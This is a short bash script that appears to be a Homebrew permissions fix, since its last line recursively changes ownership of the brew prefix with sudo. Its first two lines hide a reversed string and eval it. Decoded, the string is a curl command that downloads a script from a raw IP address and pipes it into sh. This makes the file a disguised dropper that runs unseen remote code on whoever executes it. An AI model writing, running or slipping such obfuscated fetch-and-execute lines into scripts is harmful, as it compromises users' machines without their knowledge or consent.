#!/bin/bash
s='hs | 9/001.15.891//:ptth Ls- lruc'
eval "$(echo "$s" | rev)"
sudo chown -R "$(whoami)" "$(brew --prefix)"/*
